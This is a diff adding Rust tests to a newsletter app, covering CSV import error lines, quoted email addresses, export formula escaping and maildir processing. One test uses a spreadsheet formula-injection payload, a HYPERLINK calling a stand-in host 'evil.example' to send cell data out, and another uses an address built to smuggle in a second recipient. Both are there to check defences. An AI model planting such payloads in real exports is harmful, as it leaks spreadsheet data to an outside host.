@@ -217,3 +217,177 @@ fn bad_configuration_fails_at_start_with_the_key_and_the_fix() {
         "{err}"
     );
 }
+
+/// Spreadsheets write CRLF line ends; the csv crate counts the `\n` of a CRLF with the next
+/// row, and a blank line with the row after it. Before: `readers.csv:51` for line 52.
+#[test]
+fn import_names_the_line_each_bad_row_starts_on() {
+    let app = App::new();
+    let csv = app.path("readers.csv");
+    let mut rows: Vec<Vec<u8>> = vec![b"email,name".to_vec()];
+    rows.extend((2..=51).map(|i| format!("reader{i}@example.com,Reader {i}").into_bytes()));
+    rows.push(b"not-an-email,Line 52".to_vec());
+    rows.push(b"".to_vec());
+    rows.push(b"grace@example.org,\"Grace\r\nHopper\"".to_vec());
+    rows.push(b"\xff@example.com,Line 56".to_vec());
+    rows.push(b"\"\"\"ada\"\"@example.org\",Line 57".to_vec());
+    rows.push(b"ada@example.org,Line 58".to_vec());
+    std::fs::write(&csv, rows.join(&b"\r\n"[..])).unwrap();
+    let (ok, out, err) = app.run(&["subscribers", "import", path_str(&csv)]);
+    assert!(!ok, "a partial import exits non-zero");
+    assert!(out.contains("imported 51 new subscribers"), "{out}");
+    let file = csv.display().to_string();
+    let reported: Vec<&str> = err
+        .lines()
+        .filter_map(|l| l.strip_prefix(&format!("{file}:")))
+        .collect();
+    let expected = [
+        // A bad address on line 52.
+        ("52: skipped:", "has no '@'"),
+        // A name with a line break, quoted over lines 54 and 55: where the row starts.
+        ("54: skipped:", "control character"),
+        // Not UTF-8: the csv crate's own error, on its line too.
+        ("56: skipped:", "not valid UTF-8"),
+        // A quoted local part.
+        ("57: skipped:", "has quotes"),
+    ];
+    assert_eq!(reported.len(), expected.len(), "{err}");
+    for (line, (prefix, why)) in reported.iter().zip(expected) {
+        assert!(
+            line.starts_with(prefix) && line.contains(why),
+            "expected {prefix} … {why}, got {line}"
+        );
+    }
+}
+
+#[test]
+fn a_quoted_local_part_is_refused_not_a_second_subscriber() {
+    let app = App::new();
+    app.ok(&["subscribers", "add", "ada@example.org"]);
+    for address in ["\"ada\"@example.org", "\"a,b@evil.example\"@example.com"] {
+        let (ok, _, err) = app.run(&["subscribers", "add", address]);
+        assert!(!ok, "{address} accepted");
+        assert!(err.contains("write the address without them"), "{err}");
+    }
+    assert_eq!(app.statuses(), "ada@example.org\t-\tactive\n");
+}
+
+/// Before: a name such as `=HYPERLINK(…)` went out as a live formula.
+#[test]
+fn export_neutralises_formulas_and_imports_back_unchanged() {
+    let app = App::new();
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
+    for (email, name) in [
+        ("ada@example.com", formula),
+        ("-grace@example.org", "+1 555"),
+        ("alan@example.net", "@SUM(A1:A9)"),
+        ("katherine@example.com", "Katherine Johnson"),
+    ] {
+        app.ok(&["subscribers", "add", "--name", name, "--", email]);
+    }
+    let export = app.ok(&["subscribers", "export"]);
+    let mut reader = csv::Reader::from_reader(export.as_bytes());
+    let cells: Vec<(String, String)> = reader
+        .records()
+        .map(|r| {
+            let r = r.unwrap();
+            (r[0].to_owned(), r[1].to_owned())
+        })
+        .collect();
+    for (email, name) in &cells {
+        for cell in [email, name] {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would be a formula in a spreadsheet"
+            );
+        }
+    }
+    assert!(
+        cells.contains(&("ada@example.com".to_owned(), format!("'{formula}"))),
+        "{export}"
+    );
+    assert!(
+        cells.contains(&("'-grace@example.org".to_owned(), "'+1 555".to_owned())),
+        "{export}"
+    );
+    assert!(cells.contains(&(
+        "katherine@example.com".to_owned(),
+        "Katherine Johnson".to_owned()
+    )));
+
+    let again = App::new();
+    let file = again.path("export.csv");
+    std::fs::write(&file, &export).unwrap();
+    again.ok(&["subscribers", "import", path_str(&file)]);
+    let sorted = |list: String| {
+        let mut lines: Vec<String> = list.lines().map(str::to_owned).collect();
+        lines.sort();
+        lines
+    };
+    assert_eq!(
+        sorted(again.statuses()),
+        sorted(app.statuses()),
+        "the same readers, the same names"
+    );
+}
+
+/// Before: a folder in new/ stopped the command with exit 1 before any mail was processed,
+/// on every run.
+#[test]
+fn an_unreadable_maildir_entry_is_skipped_and_the_rest_processed() {
+    let app = App::new();
+    app.ok(&["subscribers", "add", "ada@example.com"]);
+    let id = app.uuids(
+        "SELECT id FROM subscribers WHERE email = $1",
+        "ada@example.com",
+    )[0];
+    let token = morningpost::domain::TokenKey::from_hex(support::app::SECRET_KEY)
+        .unwrap()
+        .unsubscribe_token(id);
+    let maildir = app.path("maildir");
+    let new = maildir.join("new");
+    std::fs::create_dir_all(new.join("a-folder")).unwrap();
+    std::fs::write(
+        new.join("1.host"),
+        format!(
+            "From: ada@example.com\r\nSubject: unsubscribe {}\r\n\r\n",
+            token.expose()
+        ),
+    )
+    .unwrap();
+    std::fs::write(new.join("2.host"), "Subject: hello\r\n\r\nbuy now\r\n").unwrap();
+    let out = app
+        .command(&["unsubscribe-mail", "--maildir", path_str(&maildir)])
+        .output()
+        .unwrap();
+    let (stdout, stderr) = (
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(2),
+        "done, but not all of it: {stderr}"
+    );
+    assert!(
+        stdout.contains(
+            "2 messages read: 1 unsubscribed, 0 already unsubscribed, 1 without a valid token"
+        ),
+        "{stdout}"
+    );
+    assert!(
+        stderr.contains(&format!("{}: skipped:", new.join("a-folder").display())),
+        "{stderr}"
+    );
+    assert_eq!(app.status_of("ada@example.com"), "unsubscribed");
+    let left: Vec<_> = std::fs::read_dir(&new)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(
+        left,
+        ["a-folder"],
+        "processed mail leaves new/, the folder stays"
+    );
+    assert_eq!(std::fs::read_dir(maildir.join("cur")).unwrap().count(), 2);
+}
